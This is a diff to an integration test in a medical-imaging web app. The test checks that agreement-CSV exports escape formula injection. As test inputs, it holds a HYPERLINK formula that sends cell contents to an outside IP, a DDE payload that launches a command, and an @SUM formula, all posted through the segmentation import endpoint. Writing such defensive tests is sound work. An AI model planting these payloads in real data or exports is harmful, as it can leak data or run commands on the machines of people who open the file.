@@ -17,8 +17,7 @@ from awesomme.core.csv_writer import FORMULA_STARTS
 from awesomme.dicom.volumes import grid_from_datasets, sort_by_position
 from awesomme.orthanc.client import OrthancClient
 from tests.integration.conftest import Account, Cohorts, StoredPatient, attach_to_cohort, client_for, store_patient
-from tests.integration.labels import save_label_map
-from tests.seg_files import rtstruct_bytes
+from tests.seg_files import nifti_bytes, rtstruct_bytes
 
 FORMULA = '=HYPERLINK("http://198.51.100.9/?leak="&A1,"open")'
 
@@ -118,13 +117,19 @@ def test_audit_csv_cells_are_escaped_against_formula_injection(server_url: str, 
 def test_agreement_csv_cells_are_escaped_against_formula_injection(
     server_url: str, cohorts: Cohorts, knee: StoredPatient
 ) -> None:
-    """The author is a client's display field, the segment's name too: both reach the agreement CSV."""
+    """An import's reader is a client's display field, the segment's name too: both reach the agreement CSV."""
     grid = grid_from_datasets(knee.datasets)
     first, second = np.zeros(grid.shape, np.uint8), np.zeros(grid.shape, np.uint8)
     first[8:12, 60:80, 60:80] = 1
     second[8:12, 62:82, 60:80] = 1
-    save_label_map(server_url, cohorts.alpha_member, knee, first, FORMULA, {1: "+cmd|' /C calc'!A0"})
-    save_label_map(server_url, cohorts.alpha_admin, knee, second, "@SUM(A1:A9)", {1: "+cmd|' /C calc'!A0"})
+    for account, mask, reader in ((cohorts.alpha_member, first, FORMULA), (cohorts.alpha_admin, second, "@SUM(A1:A9)")):
+        with client_for(server_url, account) as http:
+            reply = http.post(
+                "/api/segmentations/import",
+                files={"file": ("label.nii.gz", nifti_bytes(mask, knee.patient.affine), "application/octet-stream")},
+                data={"series_uid": knee.patient.series_uid, "reader": reader, "segment_label": "+cmd|' /C calc'!A0"},
+            )
+        assert reply.status_code == 201, reply.text
     with client_for(server_url, cohorts.alpha_member) as http:
         reply = http.get("/api/agreement/segmentations.csv", params={"series_uid": knee.patient.series_uid})
     assert reply.status_code == 200, reply.text
